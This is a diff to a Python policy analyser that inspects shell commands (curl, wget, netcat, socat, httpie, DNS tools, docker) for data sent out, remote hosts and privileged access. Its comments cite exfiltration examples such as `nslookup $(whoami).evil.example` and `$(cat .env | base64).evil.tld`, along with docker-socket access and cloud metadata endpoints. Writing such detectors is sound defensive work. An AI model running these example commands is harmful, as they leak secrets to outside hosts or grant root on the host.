@@ -478,6 +478,7 @@ def _curl(f: Facts) -> None:
     f.downloads += f.writes
     if has_option(options, "-K", "--config"):
         f.hide("curl reads options from a config file the policy cannot see")
+    _data_in_names(f, f.hosts)
 
 
 def _curl_routes(f: Facts, options: dict[str, list[str]]) -> None:
@@ -560,6 +561,7 @@ def _wget(f: Facts) -> None:
     operands, options = split_options(f.cmd.args, _VALUE_OPTIONS["wget"])
     for url in operands:
         f.hosts += url_hosts(url)
+    _data_in_names(f, f.hosts)
     for value in option_values(options, "--post-file", "--body-file"):
         send(f, value)
     for value in option_values(options, "--post-data", "--body-data"):
@@ -601,6 +603,8 @@ def _netcat(f: Facts) -> None:
             f.hide(f"{f.cmd.name} {option} runs {value!r} on the connection")
             f.sends.append("-")
     listening = has_option(options, "-l", "--listen")
+    if has_option(options, "-U", "--unixsock") and any(_ENGINE_SOCKET.search(o) for o in operands):
+        f.privileged = True  # `nc -U /var/run/docker.sock`: the container engine's API
     if listening:
         # `nc -l [-p] PORT`, `nc -l ADDR PORT`: what it is given goes to whoever connects
         hosts = [o for o in operands if not o.isdigit() and not re.fullmatch(r"\d+-\d+", o)]
@@ -635,7 +639,13 @@ def _socat(f: Facts) -> None:
             "PROXY",
         ):
             f.hosts.append(_host_port(rest))
-        elif kind in ("FILE", "OPEN", "GOPEN", "CREATE", "CREAT"):
+        elif kind.startswith(("UNIX", "ABSTRACT")) or kind == "GOPEN":
+            if _ENGINE_SOCKET.search(rest.split(",", 1)[0]):
+                f.privileged = True  # the container engine's API: root on the host
+            if kind == "GOPEN":
+                f.read(rest.split(",", 1)[0])
+                local_file = True
+        elif kind in ("FILE", "OPEN", "CREATE", "CREAT"):
             path = rest.split(",", 1)[0]
             f.read(path)
             if kind in ("CREATE", "CREAT"):
@@ -854,23 +864,67 @@ def _mail(f: Facts) -> None:
         f.sends.append("-")
 
 
+_HTTPIE_VALUE = words(
+    "-a --auth -A --auth-type -o --output --session --session-read-only --verify --cert "
+    "--cert-key --cert-key-pass --ssl --ciphers -p --print -P --history-print -s --style "
+    "--pretty --format-options --response-charset --response-mime --timeout "
+    "--max-redirects --default-scheme --boundary --proxy --raw --bearer --resolve "
+    "--interface --unix-socket --http-version --max-headers -b --body --headers -j"
+) - {"-b", "--body", "--headers", "-j"}
+#: A request item that embeds or uploads a file: `field=@file`, `field:=@file`,
+#: `header:@file`, `param==@file`, `field@file` (a form upload) and xh's bare `@file`.
+_HTTPIE_FILE = re.compile(r"^(?:[^=:@\\]|\\.)*(?:==|:=|=|:)?@(?P<path>.+)$")
+_HTTPIE_METHOD = re.compile(r"^[A-Za-z]+$")
+
+
 def _http_client(f: Facts) -> None:
-    """httpie (http/https/xh): `http POST host field=@file`."""
+    """httpie (`http`, `https`) and xh (`xh`, `xhs`): `http [METHOD] URL [ITEM...]`.
+    The first operand is the method when it is a bare word and another follows (as
+    httpie's own parser decides); the URL needs no scheme (`example.com/x`, `:8080`,
+    `0xa9fea9fe/latest/`: httpie prepends `http://`, `:PORT` is localhost); an item
+    naming `@file` sends that file."""
     f.network = True
-    operands, options = split_options(
-        f.cmd.args,
-        words("-a --auth -o --output --session --verify --cert --cert-key -A"),
-    )
-    for position, operand in enumerate(operands):
-        if position <= 1 and (re.match(r"^[A-Za-z]+$", operand) and operand.isupper()):
-            continue
-        if "://" in operand or (position <= 1 and ("." in operand or operand.startswith(":"))):
-            f.hosts.append(host_of(operand))
-        elif "@" in operand and re.match(r"^[^=:@]+=?@", operand):
-            send(f, operand.split("@", 1)[1])
+    operands, options = split_options(f.cmd.args, _HTTPIE_VALUE)
+    start = 1 if len(operands) > 1 and _HTTPIE_METHOD.match(operands[0]) else 0
+    if start < len(operands):
+        f.hosts.append(_httpie_host(operands[start]))
+    for item in operands[start + 1 :]:
+        found = _HTTPIE_FILE.match(item)
+        if found and not item.startswith(("http:", "https:")):
+            send(f, found["path"].split(";", 1)[0])
+        elif _shell._UNKNOWN in item and re.match(r"^[^=:]*(?:==|:=|=)", item):
+            f.sends.append("$?")  # `field=$(cat x)`: data from a substitution
+    for value in option_values(options, "--proxy"):
+        f.hosts += url_hosts(value.split(":", 1)[-1])  # `--proxy=http:http://host:port`
+    for value in option_values(options, "--resolve"):
+        f.hosts.append(value.rsplit(":", 1)[-1])  # xh `--resolve host:addr`
+    for value in option_values(options, "--raw"):
+        if value.startswith("@"):
+            send(f, value[1:])
+    for socket in option_values(options, "--unix-socket"):
+        if _ENGINE_SOCKET.search(socket):
+            f.privileged = True  # the container engine's API: root on the host
+    f.read(*option_values(options, "--cert", "--cert-key", "--session", "--session-read-only"))
     f.write(*option_values(options, "-o", "--output"))
     if stdin_is_data(f):
         f.sends.append("-")
+    _data_in_names(f, f.hosts)
+
+
+#: Sockets of a container engine's API (docker, podman, containerd, buildkit):
+#: whoever talks to one can start a privileged container.
+_ENGINE_SOCKET = re.compile(r"docker|podman|containerd|buildkit|cri-o|crio")
+
+
+def _httpie_host(url: str) -> str:
+    """The host of an httpie URL operand, written with or without a scheme."""
+    if url.startswith(":") and not url.startswith("://"):
+        return "localhost"  # `:8080/x`, `:/x`
+    if url.startswith("://"):
+        url = "http" + url
+    elif not URL_SCHEME.match(url):
+        url = "http://" + url
+    return next(iter(url_hosts(url)), "")
 
 
 def _aria2c(f: Facts) -> None:
@@ -906,11 +960,50 @@ def _aria2c(f: Facts) -> None:
 
 def _network_only(f: Facts) -> None:
     f.network = True
-    operands, _ = split_options(
+    operands, options = split_options(
         f.cmd.args,
         words("-c -i -p -s -t -W -w -q -b -e -f -h -k -l -m -o -x -y -4 -6 -I"),
     )
     f.hosts += [o for o in operands if not o.isdigit() and not o.startswith("+")][:1]
+    if f.cmd.name in ("dig", "kdig", "drill", "delv"):
+        f.hosts += [o[1:] for o in operands if o.startswith("@")]  # the server asked
+    names = operands[:4] if f.cmd.name in _LOOKUPS else operands[:1]
+    _data_in_names(f, names, whole=f.cmd.name in _LOOKUPS)
+    if f.cmd.name.startswith("ping") and _built(f, *option_values(options, "-p")):
+        f.sends.append(_NAME_DATA)  # `ping -p $(xxd -p f) host`: the payload pattern
+
+
+#: Programs whose work is to look a name up (a query to a DNS server: a name under a
+#: domain someone controls reaches that domain's server).
+_LOOKUPS = frozenset({"dig", "kdig", "drill", "delv", "nslookup", "host", "getent", "resolvectl"})
+#: What a name built from a command's output sends (`nslookup $(whoami).evil.example`).
+_NAME_DATA = "(name) data in a looked-up host name, from a command substitution"
+
+
+def _built(f: Facts, *values: str) -> bool:
+    """Whether a value is (partly) the output of one of the command's own
+    substitutions: `$?` in a word of a command that has substitutions."""
+    start, end = f.cmd.inner
+    return end > start and any(_shell._UNKNOWN in v for v in values)
+
+
+def _data_in_names(f: Facts, names: Iterable[str], *, whole: bool = False) -> None:
+    """A host name built from a substitution's output is looked up — the output goes
+    to the DNS server of the domain it ends in (`$(cat .env | base64).evil.tld`): a
+    send. A name that is only a substitution (`curl http://$(minikube ip)`) is a send
+    for the programs that do nothing but look names up (`whole`)."""
+    for name in names:
+        host = host_of(name) if "://" in name else name
+        if _built(f, host) and (whole or host.strip() != _shell._UNKNOWN):
+            f.sends.append(_NAME_DATA)
+            return
+
+
+def _metadata_client(f: Facts) -> None:
+    """`ec2-metadata`, `ec2metadata`, `oci-metadata`: clients of the instance metadata
+    service, which hands out the machine's credentials."""
+    f.network = True
+    f.hosts.append("192.0.0.192" if f.cmd.name.startswith("oci") else "169.254.169.254")
 
 
 def pip(f: Facts, args: Sequence[str] | None = None) -> None:
@@ -1033,6 +1126,16 @@ def _docker(f: Facts) -> None:
     f.subcommand = operands[0] if operands else ""
     if f.subcommand in ("pull", "push", "login", "build", "run", "search"):
         f.network = True
+    # `-H tcp://host:2375`, `DOCKER_HOST=ssh://u@host`: a daemon elsewhere. (A unix
+    # socket is this machine's daemon, the one `docker` talks to anyway: its commands
+    # are judged as they are; other clients of its socket are privileged, see _curl.)
+    daemons = option_values(options, "-H", "--host") + [
+        a.split("=", 1)[1] for a in f.cmd.assignments if a.startswith("DOCKER_HOST=")
+    ]
+    for daemon in daemons:
+        if not daemon.startswith(("unix:", "npipe:", "fd:")) and daemon != _shell._UNKNOWN:
+            f.network = True
+            f.hosts += url_hosts(daemon if "://" in daemon else "tcp://" + daemon)
     if f.subcommand in ("run", "create", "exec") or (
         f.subcommand in ("container", "compose") and operands[1:2] in (["run"], ["create"])
     ):
@@ -1398,8 +1501,13 @@ _PROGRAMS: tuple[tuple[Callable[[Facts], None], str], ...] = (
     (_copy_remote, "scp rsync"),
     (_cloud_copy, "aws gsutil rclone azcopy s3cmd gcloud"),
     (_mail, "mail mailx mutt sendmail swaks"),
-    (_http_client, "http https xh"),
-    (_network_only, "ping dig nslookup host whois traceroute masscan"),
+    (_http_client, "http https xh xhs"),
+    (
+        _network_only,
+        "ping ping6 dig nslookup host whois traceroute traceroute6 tracepath mtr masscan "
+        "kdig drill delv",
+    ),
+    (_metadata_client, "ec2-metadata ec2metadata oci-metadata"),
     (_pip_handler, "pip pip3"),
     (_js_package, "npm pnpm yarn npx pnpx bunx"),
     (_cargo_like, "cargo go gem"),
